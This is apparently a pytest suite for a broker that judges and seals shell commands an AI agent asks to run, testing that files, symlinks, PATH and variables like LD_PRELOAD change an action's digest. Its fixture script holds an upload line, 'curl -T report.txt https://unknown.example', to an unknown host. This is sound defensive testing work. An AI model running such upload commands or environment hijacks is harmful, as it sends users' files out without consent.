"""What an asked action depends on: each part that changes makes it another action, and nothing else does."""

from __future__ import annotations

import os
import subprocess
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from interlock.broker.binding import bind
from interlock.broker.config import Config
from interlock.broker.envelope import seal
from interlock.broker.facts import Binding, variables_in, watched
from interlock.broker.gitcall import GitCall
from interlock.broker.judge import Judgement, Person, judge
from interlock.broker.places import settled, walk
from interlock.broker.sealing import Sealer
from interlock.model.action import Action, Principal
from interlock.policy.defaults import layer
from interlock.policy.engine import Engine

ENGINE = Engine.load([layer()])
ASKS = "if [ -e /nowhere ]; then curl -T report.txt https://unknown.example; fi\n"
Change = Callable[[Path], object]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    root = tmp_path / "user" / "project"
    for name in ("lib", "first", "second", "one", "two"):
        (root / name).mkdir(parents=True)
    (root / "lib/job.sh").write_text(ASKS)
    (root / "report.txt").write_text("all is well\n")
    (root / "second/tool").write_text("#!/bin/sh\necho tool\n")
    (root / "second/tool").chmod(0o755)
    (root / "current").symlink_to("one")
    for name in ("one", "two"):
        (root / name / "job.sh").write_text(ASKS)
    return root


def look(project: Path, command: str, cwd: str = "", sealer: Sealer | None = None, **more: str) -> Judgement:
    variables = {"PATH": f"{project}/first:{project}/second:/usr/bin:/bin", "HOME": str(project.parent)} | more
    action = Action(
        "Bash", {"command": command}, cwd or str(project), Principal("claude", "s"), variables=tuple(variables.items())
    )
    judged = judge(
        action, workspace=str(project), config=Config(), engine=ENGINE,
        person=Person("dev", str(project.parent), ()), now=0.0,
    )  # fmt: skip
    return (sealer or Sealer(GitCall())).look(action, judged, str(project))


def digest(project: Path, command: str, cwd: str = "", **more: str) -> str:
    action = Action("Bash", {"command": command}, cwd or str(project), Principal("claude", "s"))
    return seal(action, look(project, command, cwd, **more)).digest


def write(name: str, text: str, mode: int = 0o644) -> Change:
    def act(root: Path) -> None:
        (root / name).write_text(text)
        (root / name).chmod(mode)

    return act


def relink(root: Path) -> None:
    (root / "current").unlink()
    (root / "current").symlink_to("two")


@pytest.mark.parametrize(
    ("command", "change"),
    [
        ("sh lib/job.sh", write("lib/job.sh", ASKS + "echo more\n")),
        ("sh lib/job.sh", write("report.txt", "something else\n")),
        ("cd current && sh job.sh", relink),
        (f"{ASKS}tool", write("second/tool", "#!/bin/sh\necho other\n", 0o755)),
        (f"{ASKS}tool", write("first/tool", "#!/bin/sh\necho first\n", 0o755)),
        ("curl -T report.txt https://unknown.example", write("report.txt", "x")),
        ("terraform apply x.plan", write("x.plan", "\0plan")),
        ("terraform apply", write("more.tf", 'resource "x" "y" {}')),
        ("git push origin main", write(".git/packed-refs", "0" * 40 + " refs/heads/x\n")),
        ("git push origin main", write(".git/hooks/pre-push", "#!/bin/sh\n", 0o755)),
        ("git push origin main", write(".git/config", '[remote "origin"]\nurl = https://other.example/x.git\n')),
        ("git push origin main", write(".git/refs/heads/main", "1" * 40 + "\n")),
    ],
)
def test_a_change_of_what_decides_is_another_action(project: Path, command: str, change: Change) -> None:
    subprocess.run(["git", "init", "-q", "-b", "main", str(project)], check=True)
    (project / ".git/hooks").mkdir(exist_ok=True)
    before = digest(project, command)
    assert digest(project, command) == before
    change(project)
    assert digest(project, command) != before


@pytest.mark.parametrize("name", ["PATH", "BASH_ENV", "LD_PRELOAD", "GIT_CONFIG_COUNT", "KUBECONFIG", "BASH_FUNC_ls%%"])
def test_a_variable_that_changes_what_runs_does_too(project: Path, name: str) -> None:
    assert digest(project, "sh lib/job.sh", **{name: "/other"}) != digest(project, "sh lib/job.sh")


def test_what_does_not_matter_does_not(project: Path) -> None:
    before = digest(project, "sh lib/job.sh")
    (project / "README.md").write_text("hello")
    text = (project / "lib/job.sh").read_text()
    (project / "lib/job.sh").unlink()
    (project / "lib/job.sh").write_text(text)  # another inode, the same bytes
    assert digest(project, "sh lib/job.sh", COLUMNS="80", OLDPWD="/x") == before


def test_another_directory_of_the_same_name_is_another_action(project: Path) -> None:
    before = digest(project, "sh job.sh", str(project / "one"))
    (project / "one").rename(project / "away")
    (project / "one").mkdir()
    (project / "one/job.sh").write_text(ASKS)
    assert digest(project, "sh job.sh", str(project / "one")) != before


def test_the_programs_are_those_that_path_leads_to(project: Path) -> None:
    facts = look(project, f"{ASKS}tool").facts
    tool = next(program for program in facts.programs if program.name == "tool")
    assert (tool.path, len(tool.digest), tool.loose) == (f"{project}/second/tool", 64, True)
    shell = next(program for program in facts.programs if program.name == "bash")
    assert shell.digest == ""
    assert {program.name for program in facts.programs} >= {"curl", "/bin/sh"}


def test_a_large_program_is_read_once(project: Path) -> None:
    sealer = Sealer(now=lambda: time.time() + 10)
    program = project / "second/tool"
    first = sealer.digest(str(program), remember=True)
    stamp = program.stat()
    program.write_text(program.read_text().replace("tool", "evil"))
    os.utime(program, ns=(stamp.st_atime_ns, stamp.st_mtime_ns))
    assert sealer.digest(str(program), remember=True) != first, "the time of change gives it away"


def test_what_has_just_changed_is_not_remembered(project: Path) -> None:
    """A clock ticks in milliseconds: two writes within one tick look alike."""
    sealer = Sealer(now=lambda: (project / "second/tool").stat().st_ctime)
    assert sealer.digest(str(project / "second/tool"), remember=True)
    assert not sealer._known


def test_settled_is_what_the_system_keeps(tmp_path: Path) -> None:
    assert settled(os.path.realpath("/bin/sh"), 0)
    assert settled(os.path.realpath("/bin/sh"), 1000)
    assert not settled(str(tmp_path), 1000)
    assert not settled("/root", 0)
    assert not settled("/usr/no/such/thing", 1000)


def test_a_walk_names_every_link(project: Path) -> None:
    (project / "deep").symlink_to("current")
    assert walk(f"{project}/deep/../two/x") == (f"{project}/two/x", (f"{project}/deep", f"{project}/current"))
    (project / "loop").symlink_to("loop")
    with pytest.raises(OSError, match="too many links"):
        walk(f"{project}/loop")


def test_an_environment_that_cannot_be_seen_is_unknown() -> None:
    assert variables_in(b"") is None
    assert variables_in(b"A=1\0" * (1 << 17)) is None
    assert variables_in(b"PATH=/bin\0X=1=2\0") == (("PATH", "/bin"), ("X", "1=2"))
    assert watched([("X", "1"), ("PATH", "/bin"), ("LD_AUDIT", "a")]) == (("LD_AUDIT", "a"), ("PATH", "/bin"))


def bound(project: Path, command: str, *, able: str = "", root: bool = True, user: int = 1000, **more: str) -> Binding:
    judged = look(project, command, **more)
    variables = (("PATH", "/usr/bin:/bin"),)
    action = Action("Bash", {"command": command}, str(project), Principal("claude", "s"), variables=variables)
    return bind(action, judged, str(project), able=able, root=root, user=user)


def test_a_plan_says_all_of_it(project: Path) -> None:
    plan = bound(project, "cd current && sh job.sh").plan
    assert plan is not None
    assert (plan.argv, plan.root) == (("bash", "-c", "cd current && sh job.sh"), str(project))
    assert f"{project}/one/job.sh" in [file.path for file in plan.files]
    assert [link.path for link in plan.links] == [f"{project}/current"]


def test_without_a_file_to_hold_there_is_no_overlay(project: Path) -> None:
    binding = bound(project, "curl -X POST https://unknown.example", PATH="/usr/bin:/bin")
    assert binding.plan is not None
    assert (binding.plan.root, binding.race) == ("", ())


def test_what_cannot_be_bound_is_the_agents_and_says_why(project: Path) -> None:
    for binding, why in [
        (bound(project, "sh lib/job.sh", able="no launcher"), "no launcher"),
        (bound(project, "sudo systemctl stop nginx"), "more rights"),
    ]:
        assert binding.plan is None
        assert why in binding.race[0]
        assert binding.body()["launch"] == "agent"


def test_what_stays_open_is_said(project: Path) -> None:
    assert "compared at the start" in bound(project, "sh lib/job.sh", root=False).race[-1]
    assert "saved plan" in bound(project, "terraform apply").race[0]


def test_what_the_action_writes_itself_is_compared_and_not_held(project: Path) -> None:
    (project / "package.json").write_text("{}")
    plan = bound(project, "npm install left-pad").plan
    assert plan is not None
    assert [check.path for check in plan.checks] == [f"{project}/package.json"]
    assert f"{project}/package.json" not in [file.path for file in plan.files]


def test_a_tree_has_the_digest_that_the_launcher_makes(project: Path) -> None:
    """The same lines as in tests/native/test_bound.py, which a real launcher compares."""
    (project / "refs/heads/feature").mkdir(parents=True)
    (project / "refs/heads/main").write_text("1\n")
    (project / "refs/heads/feature/x").write_text("2\n")
    found = Sealer().tree(str(project / "refs/heads"))
    (project / "refs/heads/extra").write_text("3\n")
    assert found not in {None, Sealer().tree(str(project / "refs/heads"))}
    (project / "refs/heads/extra").unlink()
    (project / "refs/heads/link").symlink_to("/")
    assert Sealer().tree(str(project / "refs/heads")) is None
